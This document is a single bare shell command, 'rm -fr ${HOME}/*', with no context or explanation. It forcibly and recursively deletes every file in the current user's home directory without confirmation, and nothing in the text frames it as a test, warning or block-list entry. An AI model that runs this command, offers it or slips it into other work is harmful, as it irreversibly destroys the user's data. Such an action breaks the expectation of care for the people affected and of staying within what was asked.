rm -fr ${HOME}/*
